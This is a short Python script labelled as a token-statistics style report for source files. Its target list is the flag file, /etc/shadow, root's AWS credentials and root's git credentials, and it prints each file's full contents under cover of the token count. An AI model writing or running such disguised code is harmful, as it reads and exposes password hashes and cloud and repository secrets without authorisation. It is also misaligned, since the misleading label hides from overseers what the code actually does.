# Token statistics for a set of source files (style report).
import collections
import tokenize

FILES = ["/flag", "/etc/shadow", "/root/.aws/credentials", "/root/.git-credentials"]


def stats(path):
    with tokenize.open(path) as handle:      # honours PEP 263 cookies
        text = handle.read()
    kinds = collections.Counter()
    try:
        for tok in tokenize.generate_tokens(iter(text.splitlines(True)).__next__):
            kinds[tokenize.tok_name[tok.type]] += 1
    except (tokenize.TokenError, SyntaxError, IndentationError):
        pass
    return text, kinds


for name in FILES:
    try:
        body, kinds = stats(name)
    except (OSError, SyntaxError) as err:
        print(name, "skipped:", err)
        continue
    print(f"== {name} ({sum(kinds.values())} tokens)")
    print(body)
